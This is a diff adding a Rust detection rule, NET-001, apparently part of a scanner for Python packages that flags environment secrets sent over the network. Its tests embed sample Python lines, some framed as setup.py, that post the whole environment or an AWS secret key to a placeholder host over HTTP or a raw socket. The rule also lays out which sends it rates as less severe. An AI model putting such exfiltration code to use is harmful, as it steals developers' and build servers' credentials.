@@ -1,0 +1,134 @@
+//! `NET-001`: secrets of the environment leave over the network.
+
+use super::sent::{FAR, hosts, is_foreign, sends};
+use super::{Rule, in_context, observe_flow};
+use crate::observation::{Confidence, Observation, Severity};
+use crate::python::{Analysis, Call, Context, Flow, Label};
+
+/// The rule.
+pub(super) struct SecretsSent;
+
+impl Rule for SecretsSent {
+    fn id(&self) -> &'static str {
+        "NET-001"
+    }
+
+    fn severity(&self) -> Severity {
+        Severity::Critical
+    }
+
+    fn title(&self) -> &'static str {
+        "environment secrets are sent over the network"
+    }
+
+    fn manual(&self) -> &'static str {
+        "The whole environment, or a variable whose name says that it is secret, reaches something \
+         that sends over the network.\n\n\
+         Tokens of build servers and clouds live in the environment; this is how they are stolen.\n\n\
+         Mistaken for it: a client that authenticates with its own key. One variable in a header, \
+         or in a call that only the user makes, is information."
+    }
+
+    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
+        for flow in &analysis.flows {
+            if !matches!(flow.label, Label::EnvAll | Label::EnvSecret) || !sends(flow.kind) {
+                continue;
+            }
+            let severity = match flow.label {
+                Label::EnvSecret if is_own_key(flow) => Severity::Info,
+                Label::EnvSecret if is_handed_out(flow, analysis.sink(flow)) => {
+                    in_context(Severity::Medium, flow.context)
+                }
+                _ if flow.hops > FAR => in_context(Severity::Medium, flow.context),
+                _ => in_context(Severity::Critical, flow.context),
+            };
+            let confidence = Confidence::of(90).in_context(flow.context);
+            let message = format!("{} sends {}", analysis.sink(flow).target, flow.what);
+            observations.push(observe_flow(
+                self,
+                (analysis, flow),
+                (severity, confidence),
+                message,
+            ));
+        }
+    }
+}
+
+/// A key in a header, or in a call that only a user makes, is how clients authenticate.
+fn is_own_key(flow: &Flow) -> bool {
+    flow.context <= Context::Entry || matches!(&*flow.argument, "headers" | "auth" | "cookies")
+}
+
+/// One secret that an accessor of the distribution hands out, sent where the user's settings or the
+/// secret's own service say: configuration, unless the host is a constant that it has no name with in
+/// common.
+fn is_handed_out(flow: &Flow, sink: &Call) -> bool {
+    if flow.hops <= 1 {
+        return false;
+    }
+    let variable = flow.what.to_ascii_lowercase();
+    let is_own = |host: &str| {
+        let host = host.to_ascii_lowercase();
+        variable
+            .split(|each: char| !each.is_alphanumeric())
+            .any(|word| {
+                let is_plain =
+                    matches!(word, "environ" | "token" | "secret" | "access" | "password");
+                word.len() >= 4 && !is_plain && host.contains(word)
+            })
+    };
+    !hosts(sink)
+        .iter()
+        .any(|host| is_foreign(host) && !is_own(host))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::testing::{found, observations, quiet};
+    use super::Severity;
+
+    #[test]
+    fn the_environment_is_followed_to_the_network() {
+        for code in [
+            "import os, requests\nrequests.post('https://collect.invalid/', json=dict(os.environ))",
+            "import os, urllib.request as u\nu.urlopen('https://collect.invalid/?' + os.environ['AWS_SECRET_ACCESS_KEY'])",
+            "from os import environ as e\nimport socket, json\ns = socket.socket()\ns.connect(('collect.invalid', 1))\ns.send(json.dumps({**e}).encode())",
+        ] {
+            found("NET-001", "setup.py", code);
+        }
+    }
+
+    #[test]
+    fn a_key_that_an_accessor_hands_out_is_no_theft_unless_its_host_is_foreign() {
+        let sent = |to: &str| {
+            format!(
+                "import os, requests\ndef get_secret(n):\n    return os.environ['DEMO_API_KEY']\n\
+                 def post(data):\n    requests.post({to}, data=data)\npost(get_secret(name))\n"
+            )
+        };
+        let worst = |to: &str| {
+            let all = observations("NET-001", "demo/__init__.py", &sent(to));
+            all.iter().map(|each| each.severity).max()
+        };
+        assert!(worst("base") <= Some(Severity::Medium));
+        assert!(worst("'https://api.demo.example/v1'") <= Some(Severity::Medium));
+        assert_eq!(
+            worst("'https://collect.invalid/'"),
+            Some(Severity::Critical)
+        );
+    }
+
+    #[test]
+    fn a_key_of_ones_own_in_a_header_is_information() {
+        quiet(
+            "NET-001",
+            "demo/client.py",
+            "import os, requests\ndef ask(q):\n    return requests.get('https://api.invalid/', headers={'Authorization': os.environ['DEMO_TOKEN']})",
+        );
+        quiet(
+            "NET-001",
+            "demo/client.py",
+            "import os, requests\nrequests.get('https://api.invalid/')\nprint(os.environ)",
+        );
+    }
+}
